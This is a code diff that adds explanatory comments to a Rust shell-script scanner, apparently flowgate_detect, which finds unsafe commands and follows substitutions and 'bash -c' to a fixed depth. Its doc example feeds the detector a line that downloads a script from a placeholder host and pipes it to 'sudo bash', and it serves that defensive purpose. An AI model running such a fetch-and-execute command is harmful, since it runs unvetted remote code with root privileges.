@@ -47,7 +47,7 @@ pub struct UnsafeCommand {
 /// Substitutions and `bash -c` are followed to this depth.
 const MAX_DEPTH: usize = 6;
 
-/// Returns the unsafe commands of a script, in order, without duplicates.
+/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`].
 ///
 /// ```
 /// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
@@ -108,6 +108,7 @@ impl CommandScanner {
     /// executes). `location` maps spans of `text` to the whole text, and `depth` counts the enclosing scripts.
     fn scan_script(&mut self, text: &str, location: &ScriptLocation, depth: usize) {
         for pipeline in syntax::read(text) {
+            // More than are returned, since duplicates are removed later.
             if self.issues.len() > 2 * MAX_FINDINGS {
                 return;
             }
@@ -172,6 +173,8 @@ impl CommandScanner {
                     for range in call.every_word().flat_map(|word| &word.inner) {
                         let at = match location {
                             ScriptLocation::From(offset) => ScriptLocation::From(offset + range.start),
+                            // The script is an argument whose offsets are not those of the text, so all of its parts
+                            // have the span of the argument.
                             within => within.clone(),
                         };
                         self.scan_script(text.get(range.clone()).unwrap_or_default(), &at, depth + 1);
